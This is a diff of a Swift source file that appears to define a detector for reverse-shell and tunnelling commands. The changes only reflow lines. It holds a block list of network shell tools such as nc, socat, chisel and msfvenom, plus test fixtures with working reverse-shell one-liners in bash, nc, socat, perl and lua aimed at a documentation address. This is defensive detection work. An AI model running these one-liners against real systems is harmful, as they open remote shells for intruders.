@@ -7,19 +7,15 @@ enum ReverseShell: Family {
   static let category = "reverse-shell"
   static let programs = [
     "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "ttyd", "gotty", "xterm",
-    "cryptcat", "powercat",
-    "pwncat", "rustcat", "sbd", "exec", "dbd", "chisel", "ssh", "autossh", "ngrok", "bore", "zrok", "pinggy",
-    "lt", "localtunnel", "cloudflared",
-    "tmate",
-    "sshx", "upterm", "devtunnel", "teleconsole", "gs-netcat", "code", "telnetd", "in.telnetd", "dropbear",
-    "sshd",
-    "shellinaboxd", "wetty", "tcpserver", "tcpsvd", "udpsvd", "faucet", "systemd-socket-activate", "websocat",
-    "websocketd", "evil-winrm", "plink", "python", "openssl",
-    "tailscale", "frpc", "wstunnel", "iodine", "dnscat", "dnscat2", "ligolo-agent", "rathole", "php",
-    "http-server", "serve", "live-server", "miniserve", "darkhttpd", "webfsd", "simple-http-server", "dufs",
-    "updog",
-    "ptunnel", "ptunnel-ng", "hans", "gost", "v2ray", "xray", "sing-box",
-    "rclone", "kickstart", "msfvenom", "ruby", "twistd", "caddy", "smbserver.py", "impacket-smbserver",
+    "cryptcat", "powercat", "pwncat", "rustcat", "sbd", "exec", "dbd", "chisel", "ssh", "autossh", "ngrok",
+    "bore", "zrok", "pinggy", "lt", "localtunnel", "cloudflared", "tmate", "sshx", "upterm", "devtunnel",
+    "teleconsole", "gs-netcat", "code", "telnetd", "in.telnetd", "dropbear", "sshd", "shellinaboxd", "wetty",
+    "tcpserver", "tcpsvd", "udpsvd", "faucet", "systemd-socket-activate", "websocat", "websocketd",
+    "evil-winrm", "plink", "python", "openssl", "tailscale", "frpc", "wstunnel", "iodine", "dnscat",
+    "dnscat2", "ligolo-agent", "rathole", "php", "http-server", "serve", "live-server", "miniserve",
+    "darkhttpd", "webfsd", "simple-http-server", "dufs", "updog", "ptunnel", "ptunnel-ng", "hans", "gost",
+    "v2ray", "xray", "sing-box", "rclone", "kickstart", "msfvenom", "ruby", "twistd", "caddy", "smbserver.py",
+    "impacket-smbserver",
   ]
   static let rules = [shell, tunnel]
 
@@ -259,9 +255,8 @@ enum ReverseShell: Family {
     passes: [
       "python3 -m http.server 8000", "python3 -m http.server --bind 127.0.0.1 --directory ~",
       "socat TCP-LISTEN:2375,bind=127.0.0.1,fork UNIX-CONNECT:/var/run/docker.sock",
-      "python3 -m http.server -d dist",
-      "ssh -L 5432:localhost:5432 bastion", "ssh -R 3000:localhost:3000 staging", "ngrok http 3000",
-      "ssh host uptime",
+      "python3 -m http.server -d dist", "ssh -L 5432:localhost:5432 bastion",
+      "ssh -R 3000:localhost:3000 staging", "ngrok http 3000", "ssh host uptime",
       "chisel client 198.51.100.7:8080 5432:localhost:5432", "cloudflared tunnel --url http://localhost:3000",
       "bore local 3000 --to bore.pub", "code .", "sshd -t", "tmate --help", "ssh -N -D 1080 bastion",
       "ssh -R 5432:localhost:5432 staging", "msfvenom -l payloads", "kickstart -help",
@@ -278,8 +273,7 @@ enum ReverseShell: Family {
       "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"198.51.100.7:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
       "lua -e \"local s=require('socket').tcp();s:connect('198.51.100.7',4242);while true do local c=s:receive();local f=io.popen(c);s:send(f:read('*a')) end\"",
       "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "nc -e /bin/sh 198.51.100.7 4444",
-      "ncat --sh-exec bash 198.51.100.7 4444",
-      "socat TCP:198.51.100.7:4444 EXEC:/bin/bash",
+      "ncat --sh-exec bash 198.51.100.7 4444", "socat TCP:198.51.100.7:4444 EXEC:/bin/bash",
       "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f",
       "nc -lvp 4444 -e /bin/bash",
     ],
@@ -287,8 +281,7 @@ enum ReverseShell: Family {
       "websocat ws://localhost:8080/ws", "systemd-socket-activate -l 8080 ./app",
       "node -e 'require(\"net\").connect(5432,\"db\").on(\"connect\",()=>process.exit())'",
       "nc -z example.com 443", "nc -l 8080", "socat TCP-LISTEN:8080,fork TCP:localhost:3000",
-      "telnet example.com 25",
-      "timeout 1 bash -c '</dev/tcp/localhost/5432'", "openssl s_client -connect example.com:443",
-      "mkfifo /tmp/p",
+      "telnet example.com 25", "timeout 1 bash -c '</dev/tcp/localhost/5432'",
+      "openssl s_client -connect example.com:443", "mkfifo /tmp/p",
     ])
 }
